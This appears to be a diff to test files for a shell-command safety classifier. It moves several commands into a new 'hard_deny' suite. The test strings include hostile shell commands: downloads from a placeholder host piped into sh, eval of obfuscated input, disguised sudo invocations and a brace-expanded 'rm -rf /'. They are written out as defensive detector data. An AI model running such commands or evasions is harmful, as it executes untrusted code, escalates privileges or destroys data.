@@ -4,7 +4,7 @@ import {
   UNREADABLE_COMMAND,
   UNSEEN_CODE,
 } from '../../src/classes/unseen-code.ts';
-import { knows } from './tried.ts';
+import { hit, knows } from './tried.ts';
 
 describe('download-into-interpreter', () => {
   const runsDownload = knows(DOWNLOAD_INTO_INTERPRETER);
@@ -117,7 +117,6 @@ describe('unseen-code', () => {
     'xxd -r -p x | python3 -',
     'printf "%s" "$X" | sh',
     'eval "$X"',
-    'eval "$(printf id)"',
     'curl -o i.sh https://x.test/i.sh && sh i.sh',
     'curl -sO https://x.test/i.sh; bash ./i.sh',
     'wget https://x.test/i.sh && chmod +x i.sh && ./i.sh',
@@ -146,20 +145,13 @@ describe('unseen-code', () => {
     'perl -le "$X"',
     'deno eval "$X"',
     'php -r `cat x`',
-    '{rm,-rf,/}',
-    '{sudo,ls}',
     '$X ls',
     '"${X}" ls',
-    'X=$(echo sudo); $X ls',
     'X=sudo; read X; $X ls',
-    'export X=sudo; "${X}" ls',
     'read PYTHON; $PYTHON x',
     'PYTHON=$(cat x) && bash -c "$PYTHON y"',
     'echo ${CC:=$X}; $CC x.c',
-    '$(echo sudo) ls',
     '$(/bin/echo sudo) ls',
-    '`echo sudo` ls',
-    's$(echo u)do ls',
     '/usr/bin/sud? ls',
     'env $X ls',
     'timeout 5 $X ls',
@@ -243,6 +235,20 @@ describe('unseen-code', () => {
     'mysqldump db | mariadb db',
   ])('spares `%s`', (command) => {
     expect(isUnseen(command)).toBe(false);
+  });
+});
+
+describe('what the line itself tells is known by what it does', () => {
+  test.each([
+    '$(echo sudo) ls',
+    'X=$(echo sudo); $X ls',
+    '`echo sudo` ls',
+    'export X=sudo; "${X}" ls',
+    's$(echo u)do ls',
+    '{rm,-rf,/}',
+    '{sudo,ls}',
+  ])('`%s` is a hard deny', (command) => {
+    expect(hit(command)?.list).toBe('hard_deny');
   });
 });
 
